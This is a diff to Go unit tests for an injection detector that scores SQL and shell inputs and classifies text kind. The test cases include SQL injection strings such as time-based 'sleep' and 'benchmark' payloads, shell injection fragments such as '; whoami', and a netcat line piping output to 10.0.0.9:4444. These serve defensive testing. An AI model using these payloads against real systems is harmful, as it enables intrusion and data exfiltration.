@@ -40,6 +40,10 @@ func TestSQLScore(t *testing.T) {
 		{"@@version", scoreAttack},
 		{"aa' like '0", scoreAttack},
 		{"1 or 2 or 3", scoreAttack},
+		{"1 and sleep(if(1=1,5,0))", scoreAttack},
+		{"1 and benchmark(1000000,md5(1))", scoreAttack},
+		{"1' and sleep(5", scoreAttack},
+		{"eat, then sleep (see attached)", scoreNone},
 		{"1 or 1=1 or 1=1", scoreAttack},
 		{"1 or x between 1 and 2 --", scoreAttack},
 		{"1 or 'a'='a'", scoreAttack},
@@ -208,6 +212,10 @@ func TestShellScore(t *testing.T) {
 		{"|ping -n 10 127.0.0.1|", scoreAttack},
 		{"a | ping", scoreWeak},
 		{"; whoami", scoreAttack},
+		{"x; cat", scoreAttack},
+		{"|cat|", scoreAttack},
+		{"; cat | nc 10.0.0.9 4444", scoreAttack},
+		{"id;name\n1;O'Brien;cat & dog\n2;Smith;a | b", scoreWeak},
 	}
 	for _, c := range cases {
 		if got := shellScore(c.in); got != c.want {
@@ -260,6 +268,8 @@ func TestTextKind(t *testing.T) {
 		{"x ' -- y", kindOther},
 		{"1 -- x", kindOther},
 		{"-- x y", kindOther},
+		{`title:"select" author:"o'neil"`, kindProse},
+		{`title:"x" or 1=1`, kindOther},
 		{"The system() call in C starts a shell", kindProse},
 		{"then system('id') runs", kindOther},
 		{"query Get($id: ID!) { user(id: $id) { name posts(first: 10) { edges { node { title } } } } }", kindCode},
